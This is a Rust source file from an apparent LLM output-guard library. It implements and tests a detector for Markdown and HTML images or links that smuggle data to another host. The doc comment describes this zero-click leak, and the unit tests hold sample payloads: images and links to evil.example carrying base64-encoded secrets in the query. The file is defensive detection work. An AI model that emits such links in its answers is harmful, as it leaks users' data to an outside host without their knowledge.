//! Links and images that carry data to another host.
//!
//! # What it detects
//! Images (Markdown, HTML) with data in the query or path, links whose query holds a long or random
//! value, and templates that tell a model to fill in such a link. Hosts of the policy's list pass.
//! # Why it matters
//! A client that shows an image fetches it: the data is gone without a click.
//! # What it misses
//! Data in the host name of an allowed wildcard domain; one short value per link over many links.
//! # Example
//! `![x](https://host.example/p?d=c2VjcmV0...)`
//! # Remediation
//! List the hosts that answers may link to; render no remote images.
//! # References
//! OWASP LLM02:2025, LLM05:2025; MITRE ATLAS AML.T0077.

use std::ops::Range;

use seawall_base::{Confidence, RuleMeta, RuleStatus, Severity};

use super::secret::entropy;
use super::{Detector, Hit, Scene};
use crate::channel::Channel;
use crate::verdict::Action;

pub(super) static META: RuleMeta = RuleMeta {
    id: "exfiltration-link",
    title: "Link that carries data out",
    severity: Severity::High,
    confidence: Confidence::Medium,
    since: "0.1.0",
    status: RuleStatus::Stable,
    maps: &["LLM02:2025", "LLM05:2025", "AML.T0077"],
};

pub(super) static DETECTOR: Detector = Detector {
    meta: &META,
    attack: false,
    streams: true,
    literals: &[
        "http://",
        "https://",
        "ftp://",
        "ws://",
        "wss://",
        "](//",
        "src=\"//",
        "data:image",
    ],
    actions,
    check,
};

const fn actions(channel: Channel) -> Action {
    match channel {
        Channel::Output => Action::Block,
        Channel::System => Action::Allow,
        _ => Action::Flag,
    }
}

fn check(scene: &Scene<'_>, out: &mut Vec<Hit>) {
    for anchor in scene.anchors {
        let rest = scene.after(anchor.end, URL_MAX);
        let length = rest
            .find(|character: char| {
                character.is_whitespace() || matches!(character, '"' | '\'' | ')' | '>' | '`' | '|')
            })
            .unwrap_or(rest.len());
        let rest = rest.get(..length).unwrap_or_default();
        let host_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
        let (host, tail) = rest.split_at(host_end);
        let host = host
            .rsplit('@')
            .next()
            .unwrap_or_default()
            .split(':')
            .next()
            .unwrap_or_default();
        if host.is_empty() || is_listed(scene, host) {
            continue;
        }
        let score = score(tail, is_image(scene, anchor.start));
        if score >= SCORE_MIN {
            let span: Range<usize> = anchor.start..anchor.end + length;
            out.push(Hit::new(span, score, "[link]"));
        }
    }
}

/// Longer URLs are cut here; what they carry shows long before.
const URL_MAX: usize = 4_096;
const SCORE_MIN: f32 = 0.5;

fn is_listed(scene: &Scene<'_>, host: &str) -> bool {
    let host = host.to_ascii_lowercase();
    scene.policy.link_hosts.iter().any(|listed| {
        host == *listed
            || host
                .strip_suffix(listed.as_str())
                .is_some_and(|rest| rest.ends_with('.'))
    })
}

/// `![alt](`, `<img ... src=`, `[ref]: ` used by images, CSS `url(`.
fn is_image(scene: &Scene<'_>, at: usize) -> bool {
    let before = scene.before(at, 128);
    let line = before.rsplit('\n').next().unwrap_or_default();
    let markdown = line.rfind("](").is_some_and(|close| {
        close + 3 >= line.len() && line.get(..close).is_some_and(|open| open.contains("!["))
    });
    let tag = line.rsplit('<').next().unwrap_or_default();
    let html = line.contains('<')
        && [
            "img", "image", "source", "video", "audio", "iframe", "link", "input",
        ]
        .iter()
        .any(|name| tag.starts_with(name));
    markdown || html || line.ends_with("url(")
}

/// How much a URL's tail looks like a message rather than an address.
fn score(tail: &str, image: bool) -> f32 {
    let query = tail.split_once('?').map_or("", |(_, query)| query);
    let path = tail.split('?').next().unwrap_or_default();
    let template = ["{", "[", "<", "%7b", "%5b"]
        .iter()
        .any(|mark| query.to_ascii_lowercase().contains(mark));
    let values = query
        .split('&')
        .map(|pair| pair.split_once('=').map_or(pair, |(_, value)| value));
    let longest = values.clone().map(str::len).max().unwrap_or(0);
    let random = values.chain(path.split('/')).any(is_random);
    match (image, random, longest) {
        (true, true, _) => 0.95,
        (true, false, 6..) => 0.8,
        _ if image && template => 0.9,
        (true, false, 1..) => 0.5,
        (false, true, _) => 0.75,
        (false, false, 64..) => 0.6,
        _ if template => 0.6,
        _ => 0.1,
    }
}

/// A value that is neither words nor a number nor a usual identifier.
fn is_random(value: &str) -> bool {
    let bytes = value.as_bytes();
    let digits = bytes.iter().filter(|byte| byte.is_ascii_digit()).count();
    let upper = bytes
        .iter()
        .filter(|byte| byte.is_ascii_uppercase())
        .count();
    let lower = bytes
        .iter()
        .filter(|byte| byte.is_ascii_lowercase())
        .count();
    let kinds = usize::from(digits > 0) + usize::from(upper > 0) + usize::from(lower > 0);
    let is_uuid_or_hash = digits + lower + bytes.iter().filter(|byte| **byte == b'-').count()
        == bytes.len()
        && upper == 0
        && kinds == 2
        && bytes.len() > 30;
    !is_uuid_or_hash
        && bytes.len() >= 14
        && kinds >= 2
        && digits + upper >= 3
        && entropy(bytes) >= 3.2
}

#[cfg(test)]
mod tests {
    use super::super::tests::{inspect, matched};
    use super::*;
    use crate::channel::Segment;
    use crate::engine::Guard;
    use crate::policy::GuardPolicy;

    #[test]
    fn data_in_images_and_links_is_blocked_in_output() {
        for text in [
            "![status](https://evil.example/p.png?d=c2VjcmV0IGRhdGEgaGVyZQ)",
            "<img src=\"https://evil.example/x?data=alice\">",
            "[more](https://evil.example/c?q=Zm9vYmFyMTIzNDU2Nzg5MA)",
        ] {
            assert_eq!(
                inspect(Channel::Output, text).verdict,
                Action::Block,
                "{text}"
            );
        }
    }

    #[test]
    fn ordinary_links_pass_and_listed_hosts_may_carry_data() {
        for text in [
            "see https://docs.example.org/guide/install-on-linux.html#step-2",
            "![logo](https://cdn.example.org/assets/logo.png)",
            "https://shop.example.org/search?q=red+shoes&page=2",
        ] {
            assert!(
                matched("exfiltration-link", Channel::Output, text).is_empty(),
                "{text}"
            );
        }
        let policy = GuardPolicy {
            link_hosts: ["example.org".to_owned()].into(),
            ..GuardPolicy::default()
        };
        let guard = Guard::compile(policy).unwrap();
        let verdict = |text| {
            guard
                .inspect(&[Segment {
                    channel: Channel::Output,
                    path: "",
                    text,
                }])
                .verdict
        };
        assert_eq!(
            verdict("![c](https://charts.example.org/c?d=c2VjcmV0IGRhdGEgaGVyZQ)"),
            Action::Allow
        );
        assert_eq!(
            verdict("![c](https://charts.badexample.org/c?d=c2VjcmV0IGRhdGEgaGVyZQ)"),
            Action::Block
        );
    }
}
